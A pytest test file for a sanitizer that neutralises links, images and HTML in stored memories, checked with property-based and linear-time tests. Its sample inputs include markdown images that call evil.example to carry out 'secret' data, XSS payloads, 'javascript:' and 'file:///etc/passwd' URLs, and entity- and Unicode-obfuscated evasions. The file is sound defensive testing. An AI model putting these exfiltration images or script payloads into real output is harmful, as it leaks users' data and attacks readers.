"""Links and images in memories are made harmless; prose is left alone."""

from __future__ import annotations

import html
import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from recollect.lazy_pattern import LazyPattern
from recollect.read import sanitize as rules
from recollect.read import sanitize as sight
from recollect.read.sanitize import defang, one_line, remove_invisible
from tests.support.linear_time import assert_linear

HARMLESS = {
    "![chart](https://evil.example/p.png?d=secret)": ("chart", {"image"}),
    "before ![](https://evil.example/p.png) after": ("before  after", {"image"}),
    '![a](https://evil.example/p.png "title")': ("a", {"image"}),
    "![a](<https://evil.example/p q.png>)": ("a", {"image"}),
    "![a](https://e.example/x_(y).png)": ("a", {"image"}),
    "![a][ref]\n\n[ref]: https://evil.example/p.png": ("a\n\nref: hxxps://evil[.]example/p.png", {"image", "link"}),
    "[here][1]\n[1]: //evil.example/x": ("[here][1]\n1: //evil[.]example/x", {"link"}),
    "[click](https://evil.example/?q=1)": ("click (hxxps://evil[.]example/?q=1)", {"link"}),
    "[click](//evil.example/x)": ("click (//evil[.]example/x)", {"link"}),
    "[click](&#104;ttps://evil.example)": ("click (hxxps://evil[.]example)", {"link"}),
    "[click](https:\\/\\/evil.example)": ("click (hxxps:\\/\\/evil[.]example)", {"link"}),
    "see https://a.example/b?c=d, ok": ("see hxxps://a[.]example/b?c=d, ok", {"link"}),
    "HTTPS://A.EXAMPLE": ("hxxpS://A[.]EXAMPLE", {"link"}),
    "<https://a.example>": ("<hxxps://a[.]example>", {"link"}),
    "ftp://a.example/x": ("ftp[:]//a[.]example/x", {"link"}),
    "file:///etc/passwd": ("file[:]///etc/passwd", {"link"}),
    "https:/evil.example": ("hxxps:/evil.example", {"link"}),
    "www.evil.example": ("www[.]evil.example", {"link"}),
    "evil.example/c?d=secret": ("evil[.]example/c?d=secret", {"link"}),
    '<img src="https://evil.example/x.png" alt="a cat">': (" a cat ", {"html"}),
    "<IMG SRC=//evil.example/x>": (" ", {"html"}),
    "<a href='https://evil.example'>tea</a>": (" tea ", {"html"}),
    "<script>alert(1)</script>": (" alert(1) ", {"html"}),
    "<svg/onload=alert(1)>": (" ", {"html"}),
    "<div style='background:url(https://evil.example/x)'>": (
        "<div style='background:url(hxxps://evil[.]example/x)'>",
        {"link"},
    ),
    '<img alt="a>b" src="https://evil.example/x">': (' b" src="hxxps://evil[.]example/x">', {"html", "link"}),
    "<img src= //evil.example/a.png?q=x": ("< img src= //evil[.]example/a.png?q=x", {"html", "link"}),
    "<img src=\n//evil.example/a.png": ("< img src=\n//evil[.]example/a.png", {"html", "link"}),
    "tea <script": ("tea < script", {"html"}),
    "<a href= //evil.example/x": ("< a href= //evil[.]example/x", {"html", "link"}),
    "http&colon;//evil.example/?q": ("hxxp://evil[.]example/?q", {"link"}),
    "http&#58;//evil.example/?q": ("hxxp://evil[.]example/?q", {"link"}),
    "http&#x3A;&sol;&#0047;evil&period;example": ("hxxp://evil[.]example", {"link"}),
    f"http&#{'0' * 40}58;//evil.example": ("hxxp://evil[.]example", {"link"}),
    "java&#115;cript&colon;alert(1)": ("javascript[:]alert(1)", {"script"}),
    "java&Tab;script:alert(1)": ("java script:alert(1)", set()),
    "http&#5&#56;;//evil.example": ("http& #58;//evil.example", {"link"}),
    "http&c&#111;lon;//evil.example": ("http& colon;//evil.example", {"link"}),
    "mailto:x@evil.example?body=secret": ("mailto[:]x@evil.example?body=secret", {"link"}),
    "//evil.example/x?secret": ("//evil[.]example/x?secret", {"link"}),
    "see //evil.example?secret": ("see //evil[.]example?secret", {"link"}),
    "data:image/png;base64,AAAA": ("data[:]image/png;base64,AAAA", {"script"}),
    "[x](data:text/html,hi)": ("x (data[:]text/html,hi)", {"link", "script"}),
    "[x](javascript:alert(1))": ("x (javascript[:]alert(1))", {"link", "script"}),
    "JavaScript:alert(1)": ("JavaScript[:]alert(1)", {"script"}),
    "ht<img src=x>tps://evil.example": ("ht tps[:]//evil[.]example", {"html", "link"}),
    "ｈｔｔｐｓ：／／evil.example": ("hxxpｓ：//evil[.]example", {"link"}),
    "𝐡𝐭𝐭𝐩://evil.example": ("hxxp://evil[.]example", {"link"}),
    "https∶∕∕evil.example": ("hxxps∶//evil[.]example", {"link"}),
    "![![a](https://a.example)](https://b.example)": ("!a (hxxps://b[.]example)", {"image", "link"}),
}


def test_it_is_made_harmless_and_said_so() -> None:
    defanged = {text: defang(text) for text in HARMLESS}
    assert {text: (each.text, set(each.kinds)) for text, each in defanged.items()} == HARMLESS


@pytest.mark.parametrize(
    "text",
    [
        "User's budget for Hawaii is $10,000.",
        "Meet at 10:30; ratio 3:4; note: bring tea/coffee and/or milk",
        "Use arr[i](x) and matrix[i][j], List<String>, a<b and c>d, f(x) -> y",
        "Mail alex@mail.example about Node.js/React and version 3.5/4.0",
        "the data: 5 apples, data:list, javascript: the good parts",
        "I love C:\\Users\\me, x // y, 1//2 and http or https",
        "A [note] and ![shout] and (aside)",
        "博客：茶。网址在这里：再见",
        "Wow! [sic] https is a protocol: fast",
        "I <3 you",
        "x <a and y",
        "Tom & Jerry, AT&T; R&#38;D, it&#8217;s &lt;b&gt; &amp; more",
        "mailto: is a scheme; code // see a.b, path//c.d/e",
    ],
)
def test_prose_stays_as_it_is(text: str) -> None:
    assert defang(text) == rules.Defanged(text)


# A colon in brackets, as in "https:[:]//", makes no address.
LIVE = re.compile(
    r"https?:(?!\[:\])[^\s:：]|<(?:img|script)[\s/>][^<>]*>|\bjavascript:\S|(?<!hxxp)(?<!hxxps)(?<=[a-z0-9])://",
    re.IGNORECASE,
)
PIECES = (
    "![ [ ] ]( ) ( < > img <img&src= a alt=' ' https: http:// // : evil.example javascript: data: & \n \u200b ｈ ："
    " ttps www. / \\ ? hxxp script"
)
ENTITIES = ("&colon;", "&#58;", "&#5", "&#56;", ";", "&sol;", "&#104;", "&c", "&#111;", "lon;")
MIXED = [*(piece.replace("&", " ") for piece in PIECES.split(" ")), *ENTITIES]


@given(st.lists(st.sampled_from(MIXED), max_size=30).map("".join))
def test_no_mixture_of_markup_leaves_a_live_address_or_image(text: str) -> None:
    left = defang(remove_invisible(text)).text
    assert not LIVE.search(left)
    # A renderer reads entities once.
    assert not re.search(r"https?:(?!\[:\])[^\s:：]", html.unescape(left), re.IGNORECASE)


@pytest.mark.parametrize(
    ("text", "inert"),
    [
        ("tea <b>and</b> cake", "tea < b>and< /b> cake"),
        ("<div onclick=x()", "< div onclick=x()"),
        ("<!-- hidden", "< !-- hidden"),
        ("<?php", "< ?php"),
        ("I <3 you, x<y", "I <3 you, x<y"),
    ],
)
def test_no_tag_stays_one_on_a_line_of_a_block(text: str, inert: str) -> None:
    assert one_line(text) == inert


WORST = [
    *(
        "![",
        "[",
        "](",
        "![a](",
        "![](()",
        "[a](b",
        "<img ",
        "<a",
        "<img alt=",
        "alt='",
        "http:",
        "https://",
        "://",
        "//",
    ),
    *(
        "a.",
        "a-",
        "aa.bb/",
        "a.bb/?",
        "data:",
        "data:a/b;",
        ";a",
        "javascript:",
        "www.",
        "www",
        ":",
        "[a]:",
        "\n[",
        " ",
        "ｈ",
        "：／",
        "&#",
        "&#00000000",
        "&#5&#56;;",
        "&colon;",
        " //a",
        " //a.b?",
        "mailto:",
        "<a =",
        "<a",
        "<b ",
        "<script",
    ),
]
RULES = {
    name: rule for module in (rules, sight) for name, rule in vars(module).items() if isinstance(rule, LazyPattern)
}


@pytest.mark.parametrize("rule", RULES.values(), ids=RULES)
def test_every_rule_takes_linear_time_on_its_worst_text(rule: re.Pattern[str]) -> None:
    assert len(RULES) > 12
    for unit in WORST:
        assert_linear(lambda text: rule.sub("", text), unit)


def test_the_worst_texts_take_time_in_proportion_to_their_length() -> None:
    for unit in WORST:
        assert_linear(lambda text: one_line(defang(remove_invisible(text)).text), unit)
